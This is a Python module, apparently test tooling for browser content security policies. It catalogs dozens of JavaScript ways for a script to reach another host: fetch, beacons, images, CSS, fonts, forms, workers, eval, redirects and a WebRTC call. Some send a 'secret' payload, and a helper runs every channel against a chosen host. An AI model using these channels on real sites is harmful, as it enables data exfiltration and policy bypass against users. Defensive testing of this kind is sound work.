"""Ways by which a script could tell another host what a reader wrote, each named in the address asked for."""

from __future__ import annotations

from typing import Final

__all__ = ["CALL", "GOING", "PAGE", "WORKER", "tried"]

#: By name, what a page's script can do; each gets `to`, the other host's address with the way's name.
PAGE: Final = {
    "fetch": "fetch(to, { method: 'POST', body: 'secret' })",
    "fetch-no-cors": "fetch(to, { mode: 'no-cors', keepalive: true })",
    "xhr": "const asked = new XMLHttpRequest(); asked.open('POST', to); asked.send('secret')",
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "websocket": "new WebSocket(to.replace('http', 'ws'))",
    "eventsource": "new EventSource(to)",
    "image": "new Image().src = to",
    "image-in-page": "add('img', { src: to })",
    "image-set": "add('img', { srcset: `${to} 2x` })",
    "picture-svg": "document.body.append(parsed(`<svg><image href='${to}'/></svg>`))",
    "audio": "new Audio(to).load()",
    "video": "add('video', { src: to, preload: 'auto' })",
    "poster": "add('video', { poster: to })",
    "track": """const video = add('video', {}); const track = document.createElement('track');
        Object.assign(track, { kind: 'subtitles', src: to, default: true });
        video.crossOrigin = 'anonymous'; video.append(track); track.track.mode = 'showing'""",
    "object": "add('object', { data: to })",
    "embed": "add('embed', { src: to })",
    "iframe": "add('iframe', { src: to })",
    "script": "add('script', { src: to })",
    "script-module": "add('script', { src: to, type: 'module' })",
    "script-inline": "add('script', { textContent: `fetch('${to}')` })",
    "handler": "add('img', { src: 'data:,' }).setAttribute('onerror', `fetch('${to}')`)",
    "module": "import(to)",
    "eval": "(0, eval)(`fetch('${to}')`)",
    "function": "new Function(`fetch('${to}')`)()",
    "timeout": "setTimeout(`fetch('${to}')`)",
    "style-sheet": "add('link', { rel: 'stylesheet', href: to })",
    "style-inline": "add('style', { textContent: `body { background-image: url('${to}') }` })",
    "style-import": "add('style', { textContent: `@import url('${to}');` })",
    "style-url": "document.body.style.setProperty('list-style-image', `url('${to}')`)",
    "style-made": """const sheet = new CSSStyleSheet(); document.adoptedStyleSheets.push(sheet);
        sheet.replaceSync(`html { background-image: url('${to}') }`)""",
    "font": "const face = new FontFace('x', `url('${to}')`); document.fonts.add(face); return face.load()",
    "preload": "add('link', { rel: 'preload', as: 'image', href: to })",
    "preload-fetch": "add('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: to })",
    "module-preload": "add('link', { rel: 'modulepreload', href: to })",
    "ping": "add('a', { href: '#x', ping: to }).click()",
    "prefetch": "add('link', { rel: 'prefetch', href: to })",
    "speculation": """add('script', { type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }) })""",
    "form": """const form = add('form', { action: to, method: 'post' });
        form.append(Object.assign(document.createElement('input'), { name: 'who', value: 'secret' }));
        form.target = frame(); form.submit()""",
    "form-in-page": """document.body.append(parsed(
        `<form action='${to}' target='${frame()}'><input name=who value=secret></form>`));
        document.body.lastElementChild.requestSubmit()""",
    "form-button": """document.body.append(parsed(
        `<form action='/' target='${frame()}'><button formaction='${to}'>x</button></form>`));
        document.body.lastElementChild.lastElementChild.click()""",
    "base": """const base = document.createElement('base'); base.href = to; document.head.prepend(base);
        try { await fetch(to.split('/').at(-1)); } finally { base.remove(); }""",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
    "data-frame": "add('iframe', { src: `data:text/html,<img src='${to}'>` })",
    "frame-text": "add('iframe', { srcdoc: `<img src='${to}'>` })",
    "frame-blank": "add('iframe', {}).contentWindow.fetch(to)",
}
#: What a worker's script can do.
WORKER: Final = {
    "fetch": PAGE["fetch"],
    "fetch-no-cors": PAGE["fetch-no-cors"],
    "xhr": PAGE["xhr"],
    "websocket": PAGE["websocket"],
    "eventsource": PAGE["eventsource"],
    "module": PAGE["module"],
    "eval": PAGE["eval"],
    "function": PAGE["function"],
    "font": "const face = new FontFace('x', `url('${to}')`); self.fonts.add(face); return face.load()",
    "worker": PAGE["worker"],
}
#: Where the reader is taken elsewhere: no content policy of today's browsers stops that.
GOING: Final = {
    "location": "location.assign(to)",
    "link": "add('a', { href: to }).click()",
    "new-window": "window.open(to)",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0; url=${to}` })",
}
#: A call to another computer, by protocols that no content policy of today's browsers knows.
CALL: Final = """const [, port] = to.match(/:([0-9]+)/);
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());"""
_HELPERS: Final = """
  const add = (tag, values) => {
    const element = Object.assign(document.createElement(tag), values);
    document.body.append(element);
    return element;
  };
  const parsed = (text) => {
    const template = document.createElement('template');
    template.innerHTML = text;
    return template.content;
  };
  let frames = 0;
  const frame = () => {
    const name = `sink-${++frames}-${Math.random()}`;
    const element = add('iframe', {});
    element.name = name;
    element.contentWindow.name = name;
    return name;
  };"""


def tried(ways: dict[str, str], host: str) -> str:
    """Return a script that tries all the ways to a host, and tells how many it has tried."""
    attempts = "\n".join(
        f"  await attempt('{name}', async (to) => {{ {script.strip()} }});" for name, script in ways.items()
    )
    return f"""(async () => {{{_HELPERS}
  let tried = 0;
  const attempt = async (name, way) => {{
    tried += 1;
    const patience = new Promise((resolve) => setTimeout(resolve, 1_000));
    const done = new Promise((resolve) => resolve(way(`{host}${{name}}`)));
    await Promise.race([done.catch(() => {{}}), patience]);
  }};
{attempts}
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return tried;
}})()"""
